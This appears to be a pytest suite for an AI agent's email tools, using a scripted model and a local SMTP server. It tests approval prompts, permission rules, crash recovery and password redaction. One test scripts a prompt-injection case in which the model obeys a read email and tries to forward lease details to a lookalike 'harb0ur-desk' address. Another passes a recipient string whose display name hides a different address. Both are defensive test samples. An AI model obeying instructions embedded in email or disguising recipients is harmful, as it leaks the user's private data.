"""Whole sessions with a mailbox: a scripted model, the real tools, SMTP over real sockets."""

from __future__ import annotations

import multiprocessing
import os
import signal
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from agent.application import Application, Options
from agent.evals.driving import Trajectory, converse, review
from agent.evals.reviewers import Edits, Rejects, Settles, approves, stays_silent
from agent.session import AgentSession
from tests.support.mail_server import DROP, HOST, MailServer, mail_server
from tests.support.sessions import application, calls, session
from tools.worlds.mailbox import LocalMailbox
from tools.worlds.smtp import Smtp

ME = "mara@office.example"
PRINTER = "orders@dockside-print.example"
AUDIT = "audit@harb0ur-desk.example"
REPLY = {
    "to": [PRINTER],
    "subject": "Re: 500 flyers for the winter fair",
    "body": "Please go ahead.",
    "reply_to_id": "M105",
}
READ = calls(("read_email", {"id": "M105"}), ids=["read"])
SEND = calls(("send_email", REPLY), ids=["send"])
STEPS = [READ, SEND, "Done."]


@pytest.fixture
def server() -> Iterator[MailServer]:
    with mail_server() as served:
        yield served


@asynccontextmanager
async def mailing(
    home: Path, server: MailServer | None, steps: list[Any], **options: Any
) -> AsyncIterator[tuple[Application, AgentSession]]:
    """A session with the mailbox; with a server it sends."""
    async with session(
        home, steps, **settings(server), options=Options(via="test", **options)
    ) as s:
        yield s


def settings(server: MailServer | None) -> dict[str, Any]:
    sent_by = {"smtp_url": f"smtp://{HOST}:{server.port}"} if server else {}
    return {"domains": ["mail"], "mail_from": ME, **sent_by}


async def resumed(opened: AgentSession) -> Trajectory:
    return Trajectory([event async for event in opened.resume()])


async def test_an_answer_is_asked_about_and_then_sent(tmp_path: Path, server: MailServer) -> None:
    async with mailing(tmp_path, server, STEPS) as (app, opened):
        trajectory = await converse(opened, "Tell the printer to go ahead", approves)

        (asked,) = trajectory.asked
        assert asked.args == {**REPLY, "cc": []}
        assert asked.preview is not None
        assert f"To: {PRINTER}\n" in asked.preview["after"]
        assert "Please go ahead." in asked.preview["after"]
        assert "cannot be called back" in asked.preview["summary"]
        assert asked.undo is None
        assert f"disclose:email.{PRINTER}" in asked.reason
        (mail,) = server.mails
        assert (mail.mail_from, mail.rcpt_tos) == (ME, [PRINTER])
        (effect,) = app.store.ledger.list()
        assert (effect.state, effect.transaction) == ("committed", "M113")
        assert opened.receipt().done[0].endswith("transaction M113")
        assert app.store.trail.verify() == []


async def test_what_was_read_is_marked_and_labels_the_session(tmp_path: Path) -> None:
    steps = [calls(("list_emails", {}), ids=["list"]), READ, "Read."]
    async with mailing(tmp_path, None, steps) as (_, opened):
        trajectory = await converse(opened, "What is new?", Rejects("nobody asked"))
        assert trajectory.asked == []
        for call, tool in (("list", "list_emails"), ("read", "read_email")):
            assert trajectory.results[call].startswith(f"[untrusted content from {tool}:")
        assert opened.record.labels == ["private", "untrusted"]


async def test_what_an_email_orders_waits_for_a_person_who_sees_whom_it_tells(
    tmp_path: Path, server: MailServer
) -> None:
    """The model obeys the e-mail."""
    forward = {"to": [AUDIT], "subject": "review", "body": "The lease is 1,240 EUR a month."}
    steps = [
        calls(("read_email", {"id": "M110"}), ("read_email", {"id": "M101"}), ids=["bad", "lease"]),
        calls(("send_email", forward), ids=["out"]),
        "Here is your summary.",
    ]
    async with mailing(tmp_path, server, steps) as (app, opened):
        trajectory = await converse(opened, "Summarise my mail", stays_silent)

        (asked,) = trajectory.asked
        assert trajectory.done.state == "waiting"
        assert asked.args["to"] == [AUDIT]
        assert f"disclose:email.{AUDIT}" in asked.reason
        assert f"To: {AUDIT}\n" in (asked.preview or {})["after"]
        assert server.commands == []
        assert app.store.ledger.list() == []
        trajectory = await review(opened, Rejects("I did not ask for that"))
        assert "I did not ask for that" in trajectory.results["out"]
        assert server.mails == []


@pytest.mark.parametrize(
    "options",
    [
        {"denied": ("disclose:*",)},
        {"denied": ("disclose:email.*@dockside-print.example",)},
        {"granted": ("read:*", "write:mail", "disclose:email", f"disclose:email.{ME}")},
    ],
)
async def test_whom_the_session_may_not_write_to_is_not_asked_about(
    tmp_path: Path, server: MailServer, options: dict[str, Any]
) -> None:
    spelled = {**REPLY, "to": ["Orders@DOCKSIDE-PRINT.example"]}
    steps = [READ, calls(("send_email", spelled), ids=["send"]), "I may not."]
    async with mailing(tmp_path, server, steps, **options) as (_, opened):
        trajectory = await converse(opened, "Tell the printer to go ahead", approves)
        assert trajectory.asked == []
        assert f"disclose:email.{PRINTER}" in trajectory.results["send"]
        assert server.commands == []


async def test_recipients_that_hide_another_are_arguments_to_correct(
    tmp_path: Path, server: MailServer
) -> None:
    hidden = {**REPLY, "to": [f'"{PRINTER}" <{AUDIT}>']}
    steps = [READ, calls(("send_email", hidden), ids=["hidden"]), SEND, "Done."]
    async with mailing(tmp_path, server, steps) as (_, opened):
        trajectory = await converse(opened, "Tell the printer to go ahead", approves)
        assert "not one plain address" in trajectory.results["hidden"]
        assert [approval.args["to"] for approval in trajectory.asked] == [[PRINTER]]
        assert [mail.rcpt_tos for mail in server.mails] == [[PRINTER]]


async def test_an_edit_sends_what_the_person_wrote(tmp_path: Path, server: MailServer) -> None:
    async with mailing(tmp_path, server, STEPS) as (_, opened):
        edits = Edits({"to": ["Tom@Harbour-Desk.example"], "body": "No, thank you."})
        await converse(opened, "Tell the printer to go ahead", edits)
        (mail,), (message,) = server.mails, server.messages
        assert mail.rcpt_tos == ["Tom@harbour-desk.example"]
        assert message.get_content().strip() == "No, thank you."


async def test_without_a_server_it_is_queued_and_can_be_undone(tmp_path: Path) -> None:
    async with mailing(tmp_path, None, STEPS) as (app, opened):
        trajectory = await converse(opened, "Tell the printer to go ahead", approves)
        (asked,) = trajectory.asked
        assert asked.undo == "As long as it is in the outbox it can be withdrawn."
        assert "nobody gets it" in (asked.preview or {})["summary"]
        (effect,) = app.store.ledger.list()
        mailbox = LocalMailbox(tmp_path / "worlds" / "mail.db")
        assert mailbox.email(str(effect.transaction)).status == "queued"

        async for _ in opened.undo(effect.id):
            pass
        await review(opened, approves)
        assert mailbox.emails("outbox", "", 0, 1).matched == 0
        assert [e.state for e in app.store.ledger.list()] == ["committed", "committed"]


async def test_another_server_than_was_shown_voids_the_approval(
    tmp_path: Path, server: MailServer
) -> None:
    async with mailing(tmp_path, None, STEPS) as (_, opened):
        trajectory = await converse(opened, "Tell the printer to go ahead", stays_silent)
        (asked,) = trajectory.asked
        id_ = opened.id
    async with (
        application(tmp_path, STEPS, **settings(server)) as app,
        app.open_session(id_) as opened,
    ):
        trajectory = await review(opened, stays_silent)
        seen = await review(opened, approves, rounds=1)
        assert server.mails == []
        (again,) = opened.pending()
        assert "cannot be called back" in (again.preview or {})["summary"]
        assert seen.asked[0].id == asked.id


# --- when the outcome is lost ----------------------------------------------------------------


async def test_a_refusal_reaches_the_model_and_nothing_is_in_doubt(
    tmp_path: Path, server: MailServer
) -> None:
    server.plan["RCPT"] = "550 5.1.1 no such user"
    async with mailing(tmp_path, server, STEPS) as (app, opened):
        trajectory = await converse(opened, "Tell the printer to go ahead", approves)
        assert f"refused {PRINTER} (550 5.1.1 no such user)" in trajectory.results["send"]
        (effect,) = app.store.ledger.list()
        assert effect.state == "failed"
        assert opened.pending() == []


@pytest.mark.parametrize("happened", [True, False])
async def test_a_lost_reply_is_put_to_a_person_and_never_sent_again_by_itself(
    tmp_path: Path, server: MailServer, happened: bool
) -> None:
    server.plan["END"] = DROP
    async with mailing(tmp_path, server, STEPS) as (app, opened):
        await converse(opened, "Tell the printer to go ahead", approves)
        (effect,) = app.store.ledger.list()
        assert (effect.state, effect.attempts) == ("in_doubt", 1)
        (asked,) = opened.pending()
        assert asked.kind == "in_doubt"
        assert any("Message-ID <" in note for note in asked.notes)
        assert any('list_emails({"folder":"outbox"}) shows' in note for note in asked.notes)
        assert len(server.mails) == 1

        del server.plan["END"]
        await review(opened, Settles(happened))
        (effect,) = app.store.ledger.list()
        assert (effect.state, effect.attempts) == ("committed" if happened else "failed", 1)
        assert len(server.mails) == 1


def die_when(place: str) -> None:
    """End this process, as a crash would, before or after the message is handed over."""
    hand_over = Smtp.hand_over

    def dying(self: Smtp, sender: Any, recipients: Any, message: Any, begin: Any) -> str:
        if place == "before":
            os.kill(os.getpid(), signal.SIGKILL)
        said = hand_over(self, sender, recipients, message, begin)
        os.kill(os.getpid(), signal.SIGKILL)
        return said

    Smtp.hand_over = dying  # type: ignore[method-assign]


def run_and_die(home: Path, port: int, place: str) -> None:
    import asyncio

    async def run() -> None:
        async with mailing(home, MailServer(port), STEPS) as (_, opened):
            await converse(opened, "Tell the printer to go ahead", approves)

    die_when(place)
    asyncio.run(run())


def crash(home: Path, server: MailServer, place: str) -> None:
    process = multiprocessing.get_context("spawn").Process(
        target=run_and_die, args=(home, server.port, place)
    )
    process.start()
    process.join()
    assert process.exitcode == -signal.SIGKILL


@pytest.mark.parametrize("happened", [True, False])
async def test_a_crash_between_the_server_and_the_record_is_a_doubt(
    tmp_path: Path, server: MailServer, happened: bool
) -> None:
    crash(tmp_path, server, "after")
    assert len(server.mails) == 1
    async with application(tmp_path, STEPS, **settings(server)) as app:
        (record,) = app.store.sessions.list()
        async with app.open_session(record.id) as opened:
            await resumed(opened)
            (effect,) = app.store.ledger.list()
            assert effect.state == "in_doubt"
            (asked,) = opened.pending()
            assert asked.kind == "in_doubt"
            assert "was being sent when that was interrupted" in asked.notes[0]
            assert len(server.mails) == 1
            await review(opened, Settles(happened))
            assert len(server.mails) == (1 if happened else 2)
            ids = {message["Message-ID"] for message in server.messages}
            assert len(ids) == 1, "whoever gets both can tell that they are one"


async def test_a_crash_before_the_server_had_it_is_known_and_it_is_sent_once(
    tmp_path: Path, server: MailServer
) -> None:
    crash(tmp_path, server, "before")
    assert server.mails == []
    async with application(tmp_path, STEPS, **settings(server)) as app:
        (record,) = app.store.sessions.list()
        async with app.open_session(record.id) as opened:
            trajectory = await resumed(opened)
            assert trajectory.done.state == "done"
            (effect,) = app.store.ledger.list()
            assert (effect.state, effect.attempts) == ("committed", 2)
            assert [mail.rcpt_tos for mail in server.mails] == [[PRINTER]]


# --- the secret ------------------------------------------------------------------------------


async def test_the_password_is_nowhere_in_the_record(tmp_path: Path) -> None:
    password = "s3cret-of-the-mail-server"
    with mail_server(sign_in=True) as server:
        url = f"smtp://ann:{password}@{HOST}:{server.port}"
        given = {**settings(server), "smtp_url": url}
        async with session(tmp_path, STEPS, **given) as (app, opened):
            assert password not in repr(app.settings)
            trajectory = await converse(opened, "Tell the printer to go ahead", approves)
            assert "did not accept the user or the password (535)" in trajectory.results["send"]
    assert files_with(password, tmp_path) == []


def files_with(text: str, folder: Path) -> list[Path]:
    files = [path for path in folder.rglob("*") if path.is_file()]
    assert files
    return [path for path in files if text.encode() in path.read_bytes()]
